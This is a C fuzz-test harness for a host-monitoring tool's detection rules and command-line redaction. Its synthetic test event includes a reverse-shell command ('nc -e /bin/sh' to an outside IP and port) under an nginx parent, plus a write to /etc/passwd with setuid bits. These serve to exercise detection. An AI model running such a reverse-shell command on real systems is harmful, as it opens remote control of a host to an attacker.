/* Rule files: no crash, and what was loaded answers about events without one. The same bytes as a command line go
 * through redaction: what it takes out is gone. */
#include "base/buf.h"
#include "modules/watch/rules/redact.h"
#include "modules/watch/rules/rules.h"

int LLVMFuzzerTestOneInput(const uint8_t *bytes, size_t size);

static void on_hit(const struct rules_hit *hit, void *cookie)
{
        struct buf out;
        (void)cookie;
        buf_init(&out, RULES_ALERT_MAX);
        if (rules_alert(hit, false, &out) < 0)
                abort();
        buf_clear(&out);
        rules_output(hit, &out);
        buf_done(&out);
}

static struct event some_event(int type)
{
        static char *argv[] = { (char *)"bash", (char *)"-c", (char *)"nc -e /bin/sh 10.0.0.1 4444",
                (char *)"\xff\xfe" };
        static struct event_ancestor ancestors[] = { { 1, "nginx", "/usr/sbin/nginx", "1-1-1-1" },
                { 2, NULL, NULL, NULL } };
        struct event event = { .time_ns = INT64_C(1000000000000),
                .type = type,
                .has_process = true,
                .has_object = type & 1,
                .has_audit = type & 2,
                .has_exit = type & 4 };
        event.process.exec_id = "1-2-3-4";
        event.process.exe = "/usr/bin/bash";
        event.process.comm = "bash";
        event.process.pid = 3;
        event.process.argv.items = argv;
        event.process.argv.count = 4;
        event.process.ancestors.items = ancestors;
        event.process.ancestors.count = 2;
        event.process.has_container = type & 8;
        event.process.container = (struct event_container){ "docker", "0123", "web", NULL, NULL, ATTRIBUTION_CGROUP };
        event.object = (struct event_object){
                .operation = "write", .path = "/etc/passwd", .mode = 0104755, .inode = UINT64_MAX
        };
        event.audit = (struct event_audit){ .key = "tarsier-identity", .has_result = true, .success = true };
        event.exit = (struct event_exit){ .signal = 11 };
        return event;
}

static void evaluate(struct sv text)
{
        struct rules *rules;
        struct error err;
        if (rules_load_text("fuzz.yaml", text, &rules, &err) < 0)
                return;
        for (int type = 0; type < EVENT_TYPES; type++)
                for (int64_t i = 0; i < 3; i++) {
                        struct event event = some_event(type);
                        rules_match(rules, &event, event.time_ns + i * 20000000000, on_hit, NULL);
                }
        rules_free(rules);
}

static void redact(struct sv text)
{
        char *words[64], *copy = malloc(text.n + 1);
        struct string_list argv = { words, 0 }, shown, again;
        struct redact *redact;
        struct error err;
        struct sv out;
        if (!copy || redact_new(NULL, &redact, &err) < 0)
                abort();
        memcpy(copy, text.p, text.n);
        copy[text.n] = '\0';
        for (char *word = copy; word < copy + text.n && argv.count < 64; word += strlen(word) + 1)
                words[argv.count++] = word;
        if (redact_argv(redact, &argv, &shown)) {
                size_t total = 0;
                if (shown.count > argv.count)
                        abort();
                for (size_t i = 0; i < shown.count; i++)
                        total += strlen(shown.items[i]);
                (void)total;
                char *kept[64];
                memcpy(kept, shown.items, shown.count * sizeof(*kept));
                redact_argv(redact, &(struct string_list){ kept, 0 }, &again);
        }
        if (redact_text(redact, text, &out) && out.p[out.n] != '\0')
                abort();
        redact_free(redact);
        free(copy);
}

int LLVMFuzzerTestOneInput(const uint8_t *bytes, size_t size)
{
        struct sv text = sv_n((const char *)bytes, size);
        evaluate(text);
        redact(text);
        return 0;
}
